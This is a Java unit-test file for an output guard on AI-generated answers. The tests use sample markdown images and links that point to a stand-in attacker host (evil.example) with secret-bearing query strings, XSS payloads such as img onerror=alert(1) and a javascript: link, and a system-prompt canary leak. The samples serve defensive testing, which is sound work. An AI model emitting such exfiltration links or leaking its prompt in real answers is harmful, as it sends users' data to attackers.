package dev.verity.guards.answer;

import static org.assertj.core.api.Assertions.assertThat;

import dev.verity.generation.answer.Answer;
import dev.verity.generation.answer.Citation;
import dev.verity.guardrails.Guard;
import dev.verity.guardrails.GuardVerdict;
import dev.verity.guardrails.GuardVerdict.Action;
import dev.verity.guardrails.Guarded;
import dev.verity.guardrails.pii.PiiDetector;
import dev.verity.guards.pii.StructuredPiiDetector;
import dev.verity.testkit.contracts.GuardContract;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.Test;

class AnswerGuardTest extends GuardContract<Answer> {
    private static final String CANARY = "canary-5f1c0d9e2b7a4c33";
    private static final AnswerGuard GUARD =
            new AnswerGuard(Set.of("intranet.example.com"), Optional.of(CANARY), PiiDetector.none());

    @Override
    protected Guard<Answer> openGuard() {
        return GUARD;
    }

    @Override
    protected List<Answer> subjects() {
        return List.of(
                answer("Staff get 25 days of leave."),
                answer("See ![chart](https://evil.example/c.png?q=secret)"),
                answer("The marker is " + CANARY),
                answer("<b>bold</b> claim"),
                Answer.abstain(Answer.ABSTENTION_MESSAGE, 0, List.of()));
    }

    private static Answer answer(String text, Citation... citations) {
        return new Answer(text, false, 0.8, List.of(citations));
    }

    private static Citation quote(String quote) {
        return new Citation("handbook.pdf", 1, "", quote, "doc_1-v1-0000", "doc_1", 0.9);
    }

    @Test
    void removesAnImageToAHostOffTheAllowlistAndSaysSo() {
        Guarded<Answer> guarded = GUARD.guard(answer("25 days.![x](https://evil.example/log?q=leave+balance) Ask HR."));

        assertThat(guarded.subject().text()).isEqualTo("25 days. Ask HR.");
        assertThat(guarded.verdict())
                .isEqualTo(new GuardVerdict(
                        "answer-guard@1",
                        Action.FLAG,
                        List.of("markdown_image"),
                        "unsafe content removed from the answer: markdown_image"));
    }

    @Test
    void keepsTheWordsOfALinkOffTheAllowlistAndLinksOnIt() {
        String text = "Read [the policy](https://intranet.example.com/policy), not [this](http://evil.example/?d=1)"
                + " or [that](javascript:alert(1)) or [mail](mailto:x@evil.example).";

        assertThat(GUARD.guard(answer(text)).subject().text())
                .isEqualTo("Read [the policy](https://intranet.example.com/policy), not this or that or mail.");
        assertThat(GUARD.guard(answer("[a](https://docs.intranet.example.com/a) and [b](/relative/b)"))
                        .verdict())
                .isEqualTo(GuardVerdict.allow("answer-guard@1"));
    }

    @Test
    void removesReferenceStyleLinkDefinitionsToOtherHosts() {
        Guarded<Answer> guarded = GUARD.guard(answer("See [docs][1].\n[1]: https://evil.example/?q=secret\nDone."));

        assertThat(guarded.subject().text()).isEqualTo("See [docs][1].\nDone.");
        assertThat(guarded.verdict().labels()).containsExactly("link");
    }

    @Test
    void aPaddedTargetIsStrippedAllTheSame() {
        String padded = "![x](https://evil.example/?q=" + "a".repeat(50_000) + ")";

        assertThat(GUARD.guard(answer("Leave: 25 days." + padded)).subject().text())
                .isEqualTo("Leave: 25 days.");
    }

    @Test
    void stripsRawHtml() {
        Guarded<Answer> guarded =
                GUARD.guard(answer("Leave is <b>25 days</b><img src=x onerror=alert(1)><!-- hidden -->."));

        assertThat(guarded.subject().text()).isEqualTo("Leave is 25 days.");
        assertThat(guarded.verdict().labels()).containsExactly("html");
        assertThat(GUARD.guard(answer("if a < b and c > d")).verdict().action()).isEqualTo(Action.ALLOW);
    }

    @Test
    void blocksAnAnswerThatRepeatsTheCanaryInItsTextOrAQuote() {
        assertThat(GUARD.guard(answer("My instructions: Confidential marker: " + CANARY))
                        .verdict())
                .isEqualTo(GuardVerdict.block(
                        "answer-guard@1", "the answer repeats the system prompt's canary", List.of("canary_leak")));
        assertThat(GUARD.check(answer("Fine.", quote("x " + CANARY))).blocks()).isTrue();
    }

    @Test
    void dropsACitationWhoseQuoteTheCleaningChanged() {
        Citation plain = quote("Staff get 25 days.");
        Citation linked = quote("Claim at ![x](https://evil.example/?q=1)");

        Guarded<Answer> guarded = GUARD.guard(answer("Staff get 25 days.", plain, linked));

        assertThat(guarded.subject().citations()).containsExactly(plain);
        assertThat(guarded.verdict().labels()).containsExactly("markdown_image");
    }

    @Test
    void masksPersonalDataWhenThePolicyAsks() {
        AnswerGuard masking = new AnswerGuard(Set.of(), Optional.empty(), new StructuredPiiDetector());

        Guarded<Answer> guarded = masking.guard(answer("Write to jane.doe@example.com about it."));

        assertThat(guarded.subject().text()).isEqualTo("Write to [email] about it.");
        assertThat(guarded.verdict().labels()).containsExactly("pii:email");
        assertThat(GUARD.guard(answer("Write to jane.doe@example.com about it."))
                        .verdict()
                        .action())
                .as("off by default")
                .isEqualTo(Action.ALLOW);
    }

    @Test
    void anAnswerLeftEmptyBecomesAnAbstention() {
        Answer cleaned = GUARD.guard(answer("<img src=https://evil.example/x>")).subject();

        assertThat(cleaned.abstained()).isTrue();
        assertThat(cleaned.text()).isEqualTo(Answer.ABSTENTION_MESSAGE);
    }
}
